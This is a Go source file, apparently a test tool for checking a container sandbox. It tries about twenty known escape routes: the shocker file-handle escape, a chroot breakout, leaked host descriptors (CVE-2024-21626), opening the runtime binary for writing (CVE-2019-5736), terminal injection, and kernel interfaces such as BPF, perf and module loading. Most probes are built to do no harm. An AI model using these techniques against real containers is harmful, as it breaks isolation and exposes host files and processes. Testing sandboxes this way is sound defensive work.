// Command attack tries one way out of a container, for scripts/attacks.sh. It prints "GOT IN" and what it got, or why not.
//
//	attack NAME [ARG...]
package main

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// attacks by name. Each returns what it got hold of, or the error that stopped it.
var attacks = map[string]func(args []string) (string, error){
	"shocker":         openByHandle,
	"keyring":         keyring,
	"user-namespace":  userNamespace,
	"bpf":             bpf,
	"kernel-log":      kernelLog,
	"perf":            perf,
	"personality":     personality,
	"vsock":           vsock,
	"set-uid":         setUID,
	"abstract-socket": abstractSocket,
	"link-down":       linkDown,
	"clock":           clock,
	"module":          module,
	"overwrite-exe":   overwriteExe,
	"leaked-fd":       leakedDescriptor,
	"escape-chroot":   escapeChroot,
	"swap":            swap,
	"acct":            acct,
	"tty-injection":   ttyInjection,
}

func main() {
	if len(os.Args) < 2 || attacks[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "usage: attack NAME [ARG...]")
		os.Exit(2)
	}
	got, err := attacks[os.Args[1]](os.Args[2:])
	if err != nil {
		fmt.Println("stopped:", err)
		os.Exit(1)
	}
	fmt.Println("GOT IN:", got)
}

// openByHandle is Sebastian Krahmer's shocker (2014): a file handle is looked up in the whole file system that a mount belongs to,
// whatever part of it the container sees. Inode 2 is the root of ext4.
func openByHandle(args []string) (string, error) {
	mount, err := os.Open(args[0])
	if err != nil {
		return "", err
	}
	handle := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	fd, err := unix.OpenByHandleAt(int(mount.Fd()), handle, unix.O_RDONLY|unix.O_DIRECTORY)
	if err != nil {
		return "", fmt.Errorf("open_by_handle_at: %w", err)
	}
	entries, err := os.NewFile(uintptr(fd), "root").ReadDir(3)
	return fmt.Sprint("the host's root directory ", entries), err
}

// keyring: keys are kept by user and session, not by container (keyrings(7)).
func keyring([]string) (string, error) {
	_, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_USER_KEYRING, true)
	return "the keyring of the host's user", err
}

// userNamespace: with capabilities in a namespace of one's own, all of the kernel that asks for them can be reached (CVE-2022-0185 and many others).
func userNamespace([]string) (string, error) {
	pid, _, errno := syscall.RawSyscall6(syscall.SYS_CLONE, uintptr(unix.CLONE_NEWUSER|unix.SIGCHLD), 0, 0, 0, 0, 0)
	if errno != 0 {
		return "", fmt.Errorf("clone(CLONE_NEWUSER): %w", errno)
	}
	if pid == 0 {
		syscall.RawSyscall(syscall.SYS_EXIT, 0, 0, 0)
	}
	_, err := syscall.Wait4(int(pid), nil, 0, nil)
	return "all capabilities in a user namespace of our own", err
}

// bpf: programs in the kernel (CVE-2017-16995, CVE-2021-3490).
func bpf([]string) (string, error) {
	attributes := [4]uint32{2 /* BPF_MAP_TYPE_ARRAY */, 4, 4, 1}
	fd, _, errno := unix.Syscall(unix.SYS_BPF, 0 /* BPF_MAP_CREATE */, uintptr(unsafe.Pointer(&attributes)), unsafe.Sizeof(attributes))
	if errno != 0 {
		return "", fmt.Errorf("bpf(BPF_MAP_CREATE): %w", errno)
	}
	return "a BPF map in the kernel", unix.Close(int(fd))
}

// kernelLog has addresses and what other containers do.
func kernelLog([]string) (string, error) {
	n, err := unix.Klogctl(unix.SYSLOG_ACTION_READ_ALL, make([]byte, 4096))
	return fmt.Sprint(n, " bytes of the kernel's log"), err
}

func perf([]string) (string, error) {
	attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{}))}
	fd, err := unix.PerfEventOpen(&attr, -1, 0, -1, 0)
	if err != nil {
		return "", fmt.Errorf("perf_event_open of a whole CPU: %w", err)
	}
	return "samples of everything that CPU 0 runs", unix.Close(fd)
}

// personality switches address randomisation off for programs that come later (docker's profile checks the argument).
func personality([]string) (string, error) {
	const noRandomize = 0x0040000
	if _, _, errno := unix.Syscall(unix.SYS_PERSONALITY, noRandomize, 0, 0); errno != 0 {
		return "", fmt.Errorf("personality(ADDR_NO_RANDOMIZE): %w", errno)
	}
	return "no address randomisation", nil
}

// vsock leads to the hypervisor, past every network namespace.
func vsock([]string) (string, error) {
	fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	if err == unix.EAFNOSUPPORT {
		return "the kernel was asked, it just has no AF_VSOCK", nil
	}
	if err != nil {
		return "", fmt.Errorf("socket(AF_VSOCK): %w", err)
	}
	return "a socket to the hypervisor", unix.Close(fd)
}

// setUID is a set-uid root program in the image, run by an ordinary user.
func setUID([]string) (string, error) {
	if os.Geteuid() != 0 || os.Getuid() == 0 {
		return "", fmt.Errorf("uid %d, effective %d", os.Getuid(), os.Geteuid())
	}
	return "effective uid 0", nil
}

// abstractSocket: abstract addresses belong to the network namespace, not to the file system (CVE-2020-15257).
func abstractSocket(args []string) (string, error) {
	connection, err := net.DialTimeout("unix", "@"+args[0], 5*time.Second)
	if err != nil {
		return "", err
	}
	return "a daemon of the host", connection.Close()
}

func linkDown([]string) (string, error) {
	socket, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return "", err
	}
	lo, err := unix.NewIfreq("lo")
	if err != nil {
		return "", err
	}
	lo.SetUint16(unix.IFF_UP)
	return "the interfaces of the namespace", unix.IoctlIfreq(socket, unix.SIOCSIFFLAGS, lo)
}

// clock: there is one clock for the whole machine. It is set to what it shows.
func clock([]string) (string, error) {
	var now unix.Timespec
	if err := unix.ClockGettime(unix.CLOCK_REALTIME, &now); err != nil {
		return "", err
	}
	if _, _, errno := unix.Syscall(unix.SYS_CLOCK_SETTIME, unix.CLOCK_REALTIME, uintptr(unsafe.Pointer(&now)), 0); errno != 0 {
		return "", fmt.Errorf("clock_settime: %w", errno)
	}
	return "the host's clock", nil
}

// module: an empty file is no module; any answer but a refusal means that a real one would be loaded.
func module([]string) (string, error) {
	var nothing byte
	err := unix.InitModule([]byte{nothing}, "")
	if err == unix.EPERM {
		return "", fmt.Errorf("init_module: %w", err)
	}
	return fmt.Sprint("the module loader, which says: ", err), nil
}

func swap([]string) (string, error) {
	path, err := unix.BytePtrFromString("/no/such/swap")
	if err != nil {
		return "", err
	}
	if _, _, errno := unix.Syscall(unix.SYS_SWAPOFF, uintptr(unsafe.Pointer(path)), 0, 0); errno == unix.EPERM {
		return "", fmt.Errorf("swapoff: %w", errno)
	}
	return "the machine's swap", nil
}

func acct([]string) (string, error) {
	if err := unix.Acct(""); err == unix.EPERM {
		return "", fmt.Errorf("acct: %w", err)
	}
	return "process accounting of the machine", nil
}

// ttyInjection types into the caller's terminal (CVE-2017-5226): our own would be harmless.
func ttyInjection([]string) (string, error) {
	letter := byte('x')
	if _, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&letter))); errno != 0 {
		return "", fmt.Errorf("ioctl(TIOCSTI): %w", errno)
	}
	return "a character typed into the terminal", nil
}

// overwriteExe waits for a process of the runtime to show up in here and opens its program for writing (CVE-2019-5736).
// It does not write, and a program that runs at the moment (ETXTBSY) counts: the attacker would hold it open and wait.
func overwriteExe(args []string) (string, error) {
	if err := os.WriteFile(args[0], nil, 0o644); err != nil { // tells that we are watching
		return "", err
	}
	own, err := os.Stat("/proc/self/exe")
	if err != nil {
		return "", err
	}
	stopped := fmt.Errorf("no process of the runtime was seen")
	held := map[string]*os.File{}
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); {
		programs, err := filepath.Glob("/proc/[0-9]*/exe")
		if err != nil {
			return "", err
		}
		for _, exe := range programs {
			file, err := os.Open(exe)
			if err != nil {
				continue
			}
			info, err := file.Stat()
			if err != nil || os.SameFile(info, own) || info.Size() < 4<<20 { // busybox and we are smaller
				file.Close()
				continue
			}
			link, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", file.Fd()))
			if held[link] != nil {
				file.Close()
				continue
			}
			held[link] = file
		}
		for link, file := range held {
			writable, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", file.Fd()), os.O_WRONLY, 0)
			if err == nil {
				return "the runtime's program " + link + ", open for writing", writable.Close()
			}
			if errors.Is(err, syscall.ETXTBSY) && !protected(file) {
				return "the runtime's program " + link + ", writable as soon as it does not run", nil
			}
			stopped = fmt.Errorf("%s: %w", link, err)
		}
	}
	return "", stopped
}

// protected tells whether a file cannot be written to whenever: its mount is read-only, or it is sealed (memfd_create(2)).
func protected(file *os.File) bool {
	var fs unix.Statfs_t
	if err := unix.Fstatfs(int(file.Fd()), &fs); err == nil && fs.Flags&unix.ST_RDONLY != 0 {
		return true
	}
	seals, err := unix.FcntlInt(file.Fd(), unix.F_GET_SEALS, 0)
	return err == nil && seals&unix.F_SEAL_WRITE != 0
}

// leakedDescriptor looks for a descriptor or a working directory of the host (CVE-2024-21626).
func leakedDescriptor([]string) (string, error) {
	descriptors, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return "", err
	}
	for _, d := range descriptors {
		for _, dir := range []string{"/proc/self/fd/" + d.Name(), "/proc/self/cwd"} {
			text, err := os.ReadFile(dir + "/secret-of-the-host")
			if err == nil {
				return strings.TrimSpace(string(text)), nil
			}
		}
	}
	return "", fmt.Errorf("nothing leads outside")
}

// escapeChroot walks up from a directory that is above its own root.
func escapeChroot(args []string) (string, error) {
	if err := os.MkdirAll("/tmp/hole", 0o700); err != nil {
		return "", err
	}
	if err := syscall.Chroot("/tmp/hole"); err != nil {
		return "", err
	}
	for i := 0; i < 100; i++ {
		if err := syscall.Chdir(".."); err != nil {
			return "", err
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return "", err
	}
	text, err := os.ReadFile(args[0])
	return string(bytes.TrimSpace(text)), err
}
